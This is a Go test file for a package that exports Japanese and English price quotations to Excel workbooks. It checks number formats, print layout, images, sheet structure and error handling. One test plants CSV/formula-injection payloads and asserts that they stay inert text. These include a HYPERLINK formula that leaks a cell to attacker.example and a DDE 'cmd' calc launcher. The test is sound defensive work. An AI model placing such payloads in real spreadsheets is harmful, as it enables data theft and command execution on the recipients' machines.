package sheets

import (
	"bytes"
	"io"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
)

// The number formats a reader of each document sees, written out rather than computed by the
// code under test.
const (
	yenFormat    = `"¥"#,##0;"▲¥"#,##0`
	dollarFormat = `"$"#,##0.00;"-$"#,##0.00`
)

// openQuote writes q as a workbook and opens it again, as a reader would.
func openQuote(tb testing.TB, q Quote) *excelize.File {
	tb.Helper()
	var buf bytes.Buffer
	if err := WriteQuoteXLSX(&buf, q); err != nil {
		tb.Fatal(err)
	}
	f, err := excelize.OpenReader(&buf)
	if err != nil {
		tb.Fatal(err)
	}
	tb.Cleanup(func() { _ = f.Close() })
	return f
}

// rowOf returns the 1-based row whose cell in col holds text, failing the test if there is none.
func rowOf(tb testing.TB, f *excelize.File, sheet, col, text string) int {
	tb.Helper()
	rows, err := f.GetRows(sheet)
	if err != nil {
		tb.Fatal(err)
	}
	i := col[0] - 'A'
	for r, cells := range rows {
		if int(i) < len(cells) && cells[i] == text {
			return r + 1
		}
	}
	tb.Fatalf("%s: no %q in column %s", sheet, text, col)
	return 0
}

// checkNumber checks that ref is a number cell holding want exactly, in the number format
// wantFmt.
func checkNumber(tb testing.TB, f *excelize.File, sheet, ref, want, wantFmt string) {
	tb.Helper()
	typ, err := f.GetCellType(sheet, ref)
	if err != nil {
		tb.Fatal(err)
	}
	raw, err := f.GetCellValue(sheet, ref, excelize.Options{RawCellValue: true})
	if err != nil {
		tb.Fatal(err)
	}
	// A number cell has no type attribute (or "n"); strings and formulas have theirs.
	if (typ != excelize.CellTypeUnset && typ != excelize.CellTypeNumber) || raw != want {
		tb.Errorf("%s!%s = %q (type %v), want the number %s", sheet, ref, raw, typ, want)
	}
	if got := numFmt(tb, f, sheet, ref); got != wantFmt {
		tb.Errorf("%s!%s format = %q, want %q", sheet, ref, got, wantFmt)
	}
}

// numFmt returns the number format of a cell: its custom format, or the built-in id.
func numFmt(tb testing.TB, f *excelize.File, sheet, ref string) string {
	tb.Helper()
	style := cellStyle(tb, f, sheet, ref)
	if style.CustomNumFmt != nil {
		return *style.CustomNumFmt
	}
	return "builtin " + strconv.Itoa(style.NumFmt)
}

func TestWriteQuoteXLSXSheets(t *testing.T) {
	for _, lang := range []string{"ja", "en"} {
		q := sampleQuote(t, lang)
		f := openQuote(t, q)
		l := q.Labels
		want := []string{l.SheetQuote, l.SheetBreakdown, l.SheetQA, l.SheetRevisions}
		if got := f.GetSheetList(); !slices.Equal(got, want) {
			t.Errorf("%s: sheets = %q, want %q", lang, got, want)
		}
		if f.GetActiveSheetIndex() != 0 {
			t.Errorf("%s: active sheet = %d, want the quotation", lang, f.GetActiveSheetIndex())
		}
	}
}

// TestWriteQuoteXLSXFigures checks that every figure of the 見積書 is a number in the right
// format, with the value of the Quote: lines, adjustments, totals and the headline.
func TestWriteQuoteXLSXFigures(t *testing.T) {
	for _, tt := range []struct {
		lang, money, total, tax string
		scale                   int
	}{
		{"ja", yenFormat, `"¥"#,##0"（税込）";"▲¥"#,##0"（税込）"`, `"内消費税 ¥"#,##0;"内消費税 ▲¥"#,##0`, 0},
		{"en", dollarFormat, `"$"#,##0.00" (tax incl.)";"-$"#,##0.00" (tax incl.)"`, "", 2},
	} {
		q := sampleQuote(t, tt.lang)
		f := openQuote(t, q)
		s := q.Labels.SheetQuote
		for _, line := range q.Lines {
			row := strconv.Itoa(rowOf(t, f, s, "B", line.Name))
			checkNumber(t, f, s, "A"+row, strconv.Itoa(line.No), "builtin 0")
			checkNumber(t, f, s, "D"+row, qxDecimalText(line.DaysTenths, 1), "0.0")
			checkNumber(t, f, s, "F"+row, qxDecimalText(line.UnitCostMinor, tt.scale), tt.money)
			checkNumber(t, f, s, "G"+row, qxDecimalText(line.AmountMinor, tt.scale), tt.money)
		}
		for _, sum := range qxQuoteSummary(q) {
			col := "D"
			if sum.kind == qxSummaryAdjustment {
				col = "B"
			}
			row := strconv.Itoa(rowOf(t, f, s, col, sum.label))
			checkNumber(t, f, s, "G"+row, qxDecimalText(sum.minor, tt.scale), tt.money)
		}
		// The total in major units, as a spreadsheet computes with it.
		totalRow := strconv.Itoa(rowOf(t, f, s, "D", q.Labels.Total))
		raw, _ := f.GetCellValue(s, "G"+totalRow, excelize.Options{RawCellValue: true})
		if got, err := strconv.ParseFloat(raw, 64); err != nil || got != float64(q.Totals.TotalMinor)/[]float64{1, 10, 100}[tt.scale] {
			t.Errorf("%s: total = %q (%v), want %d minor units", tt.lang, raw, err, q.Totals.TotalMinor)
		}
		headline := rowOf(t, f, s, "A", q.Labels.Headline)
		checkNumber(t, f, s, "C"+strconv.Itoa(headline), qxDecimalText(q.Totals.TotalMinor, tt.scale), tt.total)
		if tt.tax != "" {
			checkNumber(t, f, s, "C"+strconv.Itoa(headline+1), qxDecimalText(q.Totals.TaxMinor, tt.scale), tt.tax)
		}
	}
}

// TestWriteQuoteXLSXShownValues checks the figures as excelize formats them, which is what a
// reader sees: the discount with ▲, the headline with its captions.
func TestWriteQuoteXLSXShownValues(t *testing.T) {
	q := sampleQuote(t, "ja")
	f := openQuote(t, q)
	s := q.Labels.SheetQuote
	headline := rowOf(t, f, s, "A", q.Labels.Headline)
	for ref, want := range map[string]string{
		"G" + strconv.Itoa(rowOf(t, f, s, "B", q.Labels.Discount)): "▲¥100,000",
		"C" + strconv.Itoa(headline):                               "¥7,815,500（税込）",
		"C" + strconv.Itoa(headline+1):                             "内消費税 ¥710,500",
	} {
		if got, err := f.GetCellValue(s, ref); err != nil || got != want {
			t.Errorf("%s shows %q (%v), want %q", ref, got, err, want)
		}
	}
}

func TestWriteQuoteXLSXPrintSetup(t *testing.T) {
	q := sampleQuote(t, "ja")
	f := openQuote(t, q)
	s := q.Labels.SheetQuote
	layout, err := f.GetPageLayout(s)
	if err != nil {
		t.Fatal(err)
	}
	if *layout.Size != 9 || *layout.Orientation != "portrait" || *layout.FitToWidth != 1 || *layout.FitToHeight != 0 {
		t.Errorf("page layout = size %d, %s, fit %d×%d; want A4 (9), portrait, 1 page wide",
			*layout.Size, *layout.Orientation, *layout.FitToWidth, *layout.FitToHeight)
	}
	if props, err := f.GetSheetProps(s); err != nil || props.FitToPage == nil || !*props.FitToPage {
		t.Errorf("fitToPage is not set (%v): Excel would ignore the fit to width", err)
	}
	if m, err := f.GetPageMargins(s); err != nil || *m.Left < 0.3 || *m.Top < 0.3 || !*m.Horizontally {
		t.Errorf("margins = %+v (%v), want sensible margins, centred", m, err)
	}
	header := rowOf(t, f, s, "A", q.Labels.No)
	rows, _ := f.GetRows(s)
	names := map[string]string{}
	for _, n := range f.GetDefinedName() {
		if n.Scope == s {
			names[n.Name] = n.RefersTo
		}
	}
	if want := "'御見積書'!$" + strconv.Itoa(header) + ":$" + strconv.Itoa(header); names["_xlnm.Print_Titles"] != want {
		t.Errorf("print titles = %q, want %q", names["_xlnm.Print_Titles"], want)
	}
	if want := "'御見積書'!$A$1:$G$" + strconv.Itoa(len(rows)); names["_xlnm.Print_Area"] != want {
		t.Errorf("print area = %q, want %q", names["_xlnm.Print_Area"], want)
	}
	footer, err := f.GetHeaderFooter(s)
	if err != nil || footer.OddFooter != "&C&P / &N&RQ-2506-0042" {
		t.Errorf("footer = %+v (%v)", footer, err)
	}
	if layout, _ := f.GetPageLayout(q.Labels.SheetBreakdown); *layout.Orientation != "landscape" {
		t.Errorf("breakdown prints %s, want landscape", *layout.Orientation)
	}
}

// TestWriteQuoteXLSXFormulaText checks that texts that look like formulas stay texts: the
// workbook holds no formula at all, and the name comes back as written.
func TestWriteQuoteXLSXFormulaText(t *testing.T) {
	const name = `=HYPERLINK("http://attacker.example/?leak="&A1,"Click")`
	q := sampleQuote(t, "en")
	q.Lines[0].Name, q.Lines[1].Description = name, "=1+1"
	q.Lines[2].Description = ""
	q.Lines[2].Name = "+cmd|' /C calc'!A0"
	q.Title, q.Remarks[0], q.QA[0].Answer = "-2+3", "@SUM(1+1)", "\t=1+1"
	f := openQuote(t, q)
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		for r, cells := range rows {
			for c := range cells {
				ref := wbCellRef(c+1, r+1)
				if formula, err := f.GetCellFormula(sheet, ref); err != nil || formula != "" {
					t.Errorf("%s!%s has the formula %q (%v)", sheet, ref, formula, err)
				}
			}
		}
	}
	b := q.Labels.SheetBreakdown
	if got, _ := f.GetCellValue(b, "B2"); got != name {
		t.Errorf("breakdown name = %q, want %q", got, name)
	}
	if typ, _ := f.GetCellType(b, "B2"); typ != excelize.CellTypeSharedString {
		t.Errorf("breakdown name type = %v, want a string", typ)
	}
	s := q.Labels.SheetQuote
	first := rowOf(t, f, s, "A", q.Labels.No) + 1
	for ref, want := range map[string]string{
		wbCellRef(2, first): name, wbCellRef(2, first+1): q.Lines[0].Description,
		wbCellRef(2, first+2): q.Lines[1].Name, wbCellRef(2, first+3): "=1+1", wbCellRef(2, first+4): q.Lines[2].Name,
	} {
		if got, _ := f.GetCellValue(s, ref); got != want {
			t.Errorf("quote %s = %q, want %q", ref, got, want)
		}
	}
}

func TestWriteQuoteXLSXPictures(t *testing.T) {
	q := sampleQuote(t, "ja")
	f := openQuote(t, q)
	s := q.Labels.SheetQuote
	for ref, want := range map[string][]byte{"E7": q.Issuer.Seal, "A1": q.Issuer.Logo} {
		pics, err := f.GetPictures(s, ref)
		if err != nil || len(pics) != 1 || !bytes.Equal(pics[0].File, want) {
			t.Errorf("pictures at %s = %d (%v), want the image", ref, len(pics), err)
			continue
		}
		if pics[0].Format.PrintObject == nil || !*pics[0].Format.PrintObject {
			t.Errorf("the picture at %s does not print", ref)
		}
	}
	if pics, _ := f.GetPictures(s, "E7"); len(pics) == 1 && (pics[0].Format.ScaleX != 1 && pics[0].Format.ScaleX != 0) {
		t.Errorf("seal scaled by %v, want its natural size", pics[0].Format.ScaleX)
	}

	q.Issuer.Seal, q.Issuer.Logo = nil, nil
	f = openQuote(t, q)
	for _, ref := range []string{"E7", "A1"} {
		if pics, err := f.GetPictures(s, ref); err != nil || len(pics) != 0 {
			t.Errorf("pictures at %s without seal or logo = %d (%v)", ref, len(pics), err)
		}
	}
}

func TestWriteQuoteXLSXBreakdown(t *testing.T) {
	q := sampleQuote(t, "ja")
	slices.Reverse(q.Revisions) // oldest first: the sheet must still show the newest first
	f := openQuote(t, q)
	b := q.Labels.SheetBreakdown
	if panes, err := f.GetPanes(b); err != nil || !panes.Freeze || panes.YSplit != 1 || panes.XSplit != 2 {
		t.Errorf("breakdown panes = %+v (%v), want the header row and two columns frozen", panes, err)
	}
	line := q.Lines[3]
	for i, phase := range line.Phases {
		checkNumber(t, f, b, wbCellRef(3+i, 5), qxDecimalText(phase, 1), "0.0")
	}
	checkNumber(t, f, b, "H5", qxDecimalText(line.DaysTenths, 1), "0.0")
	checkNumber(t, f, b, "I5", qxDecimalText(line.OptimisticTenths, 1), "0.0")
	checkNumber(t, f, b, "J5", qxDecimalText(line.PessimisticTenths, 1), `"– "0.0`)
	for ref, want := range map[string]string{
		"I1": q.Labels.Range, "K5": line.Confidence, "L5": line.Engine, "M5": line.Reasoning,
		"N5": strings.Join(line.Assumptions, "\n"), "O5": line.Risks[0],
	} {
		if got, _ := f.GetCellValue(b, ref); got != want {
			t.Errorf("breakdown %s = %q, want %q", ref, got, want)
		}
	}
	if style := cellStyle(t, f, b, "N5"); style.Alignment == nil || !style.Alignment.WrapText {
		t.Error("assumptions do not wrap")
	}
	if got, _ := f.GetCellValue(q.Labels.SheetQA, "B3"); got != q.QA[1].Answer {
		t.Errorf("second answer = %q, want %q", got, q.QA[1].Answer)
	}
	r := q.Labels.SheetRevisions
	for i, want := range []string{"3", "2", "1"} {
		if got, _ := f.GetCellValue(r, wbCellRef(1, i+2)); got != want {
			t.Errorf("revision row %d = %s, want %s (newest first)", i+2, got, want)
		}
	}
	checkNumber(t, f, r, "F2", qxDecimalText(q.Totals.TotalMinor, 0), yenFormat)
}

func TestWriteQuoteXLSXErrors(t *testing.T) {
	for name, change := range map[string]func(*Quote){
		"currency":       func(q *Quote) { q.Currency = "EUR" },
		"sheet name":     func(q *Quote) { q.Labels.SheetQA = "Q/A" },
		"same sheet":     func(q *Quote) { q.Labels.SheetQA = strings.ToUpper(q.Labels.SheetQuote) },
		"seal not a png": func(q *Quote) { q.Issuer.Seal = []byte("GIF89a") },
	} {
		q := sampleQuote(t, "en")
		change(&q)
		err := WriteQuoteXLSX(&bytes.Buffer{}, q)
		if err == nil || !strings.HasPrefix(err.Error(), "sheets: write quote xlsx: ") {
			t.Errorf("%s: error = %v, want a wrapped error", name, err)
		}
	}
	if err := WriteQuoteXLSX(failingWriter{}, sampleQuote(t, "ja")); err == nil {
		t.Error("WriteQuoteXLSX hid a write failure")
	}
}

// TestWriteQuoteXLSXEmpty checks that a quotation without lines, remarks, issuer or history
// still makes a workbook: the writers lay out what there is.
func TestWriteQuoteXLSXEmpty(t *testing.T) {
	q := Quote{Lang: "en", Currency: "USD", Labels: enQuoteLabels()}
	f := openQuote(t, q)
	if got := len(f.GetSheetList()); got != 4 {
		t.Errorf("%d sheets, want 4", got)
	}
}

// TestWriteQuoteXLSXLayout checks what makes the sheet read as a quotation: a large bold
// heading, the addressee larger and underlined, the description small and grey under its name,
// the total bold under a double line, wrapped remarks, no grid lines.
func TestWriteQuoteXLSXLayout(t *testing.T) {
	q := sampleQuote(t, "ja")
	f := openQuote(t, q)
	s := q.Labels.SheetQuote
	if st := cellStyle(t, f, s, "A1"); st.Font == nil || !st.Font.Bold || st.Font.Size < 18 {
		t.Errorf("heading style = %+v, want large and bold", st.Font)
	}
	if st := cellStyle(t, f, s, "A3"); st.Font == nil || st.Font.Size <= wbBaseSize || st.Font.Underline == "" {
		t.Errorf("addressee style = %+v, want larger and underlined", st.Font)
	}
	if got, _ := f.GetCellValue(s, "A3"); got != q.Addressee {
		t.Errorf("A3 = %q, want the addressee", got)
	}
	desc := rowOf(t, f, s, "B", q.Lines[0].Description)
	if desc != rowOf(t, f, s, "B", q.Lines[0].Name)+1 {
		t.Error("the description is not in the row under its name")
	}
	if st := cellStyle(t, f, s, wbCellRef(2, desc)); st.Font == nil || st.Font.Size >= wbBaseSize || st.Font.Color == "" ||
		st.Alignment == nil || !st.Alignment.WrapText {
		t.Errorf("description style = %+v, want smaller, grey and wrapped", st.Font)
	}
	total := rowOf(t, f, s, "D", q.Labels.Total)
	st := cellStyle(t, f, s, wbCellRef(7, total))
	if st.Font == nil || !st.Font.Bold || !slices.ContainsFunc(st.Border, func(b excelize.Border) bool { return b.Type == "top" && b.Style == 6 }) {
		t.Errorf("total style = %+v %+v, want bold under a double line", st.Font, st.Border)
	}
	remark := rowOf(t, f, s, "A", q.Remarks[0])
	if st := cellStyle(t, f, s, wbCellRef(1, remark)); st.Alignment == nil || !st.Alignment.WrapText {
		t.Error("remarks do not wrap")
	}
	if view, err := f.GetSheetView(s, 0); err != nil || view.ShowGridLines == nil || *view.ShowGridLines {
		t.Errorf("grid lines shown (%v)", err)
	}
	for col, least := range map[string]float64{"A": wbMinNoWidth, "C": wbNameWidth, "G": wbMinAmountWidth} {
		if got, err := f.GetColWidth(s, col); err != nil || got < least {
			t.Errorf("width of %s = %v (%v), want at least %v", col, got, err, least)
		}
	}
}

// TestWriteQuoteXLSXAllocsGrowLinearly guards against work that grows with the square of the
// lines, which excelize's rich text once brought in: five times the lines must cost less than
// seven times the allocations. It counts allocations, not time, so it holds on any machine.
func TestWriteQuoteXLSXAllocsGrowLinearly(t *testing.T) {
	if testing.Short() {
		t.Skip("writes large workbooks")
	}
	allocs := func(n int) float64 {
		q := manyLines(sampleQuote(t, "ja"), n)
		return testing.AllocsPerRun(1, func() {
			if err := WriteQuoteXLSX(io.Discard, q); err != nil {
				t.Fatal(err)
			}
		})
	}
	small, large := allocs(100), allocs(500)
	if large > 7*small {
		t.Errorf("%v allocations for 500 lines, %v for 100: more than linear growth", large, small)
	}
}
